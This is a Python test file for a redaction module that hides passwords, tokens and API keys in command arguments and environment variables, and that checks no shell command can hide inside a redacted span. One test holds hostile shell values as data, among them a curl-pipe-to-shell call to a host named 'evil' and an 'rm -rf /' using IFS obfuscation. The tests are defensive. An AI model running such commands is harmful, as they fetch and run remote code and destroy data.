"""Redaction: obvious secrets go, and nothing that a shell would run can hide as one."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collector.redact import secrets_in_arguments, secrets_in_variable


def hidden(argv: list[str]) -> list[str]:
    """Return what is redacted in an argument list."""
    return [
        argument[start:end]
        for argument, spans in zip(argv, secrets_in_arguments(argv), strict=True)
        for start, end in spans
    ]


@pytest.mark.parametrize(
    ("argv", "secrets"),
    [
        (["mysql", "--password=hunter2", "-u", "root"], ["hunter2"]),
        (["psql", "--password", "hunter2"], ["hunter2"]),
        (["x", "--api-key=abc", "--access_token", "def"], ["abc", "def"]),
        (["curl", "-H", "Authorization: Bearer abc.def"], ["abc.def"]),
        (["curl", "-H", "X-Api-Key: abcdef"], ["abcdef"]),
        (["curl", "-u", "bob:pw", "https://x/"], ["pw"]),
        (["git", "clone", "https://bob:pw@example.com/x"], ["pw"]),
        (["aws", "configure", "set", "AKIAABCDEFGHIJKLMNOP"], ["AKIAABCDEFGHIJKLMNOP"]),
        (["sh", "-c", "PGPASSWORD=abc psql; TOKEN=def curl x"], ["abc", "def"]),
        (["gh", "ghp_" + "a" * 36], ["ghp_" + "a" * 36]),
        (["x", '{"password": "abc"}'], ["abc"]),
        (["cat", "/etc/passwd"], []),
        (["docker", "run", "-u", "0:0", "x"], []),
        (["ls", "--author=bob", "tokenizer=x"], []),
        (["psql", "--password", "--help"], []),
    ],
)
def test_obvious_secrets_are_found_and_nothing_else(argv: list[str], secrets: list[str]) -> None:
    """What a reviewer must not read is named; what they must read stays."""
    assert hidden(argv) == secrets


@pytest.mark.parametrize(
    "script",
    [
        "PASSWORD=$(curl${IFS}evil|sh)",
        "TOKEN=`id`",
        "SECRET=x;rm$IFS-rf$IFS/",
        "TOKEN=>/etc/passwd",
    ],
)
def test_what_a_shell_would_run_cannot_hide_as_a_secret(script: str) -> None:
    """Redaction must not become a place to hide a command in."""
    assert not any(set("$`;|&<>()") & set(text) for text in hidden(["sh", "-c", script]))


@given(st.lists(st.text(st.sampled_from("pasword token=:/@ -$x"), max_size=30), max_size=5))
def test_spans_are_sorted_separate_and_inside(argv: list[str]) -> None:
    """Whoever renders them may walk through once."""
    for argument, spans in zip(argv, secrets_in_arguments(argv), strict=True):
        flat = [position for span in spans for position in span]
        assert flat == sorted(flat)
        assert all(0 <= start < end <= len(argument) for start, end in spans)


@pytest.mark.parametrize(
    ("name", "value", "spans"),
    [
        ("AWS_SECRET_ACCESS_KEY", "abc", [(0, 3)]),
        ("GITHUB_TOKEN", "abc", [(0, 3)]),
        ("PWD", "/home/ai", []),
        ("LD_PRELOAD", "/opt/x.so", []),
        ("HTTPS_PROXY", "http://bob:pw@proxy", [(11, 13)]),
    ],
)
def test_variables_with_secret_names_are_redacted(
    name: str, value: str, spans: list[tuple[int, int]]
) -> None:
    """The few variables that a card shows may hold credentials as well."""
    assert secrets_in_variable(name, value) == spans
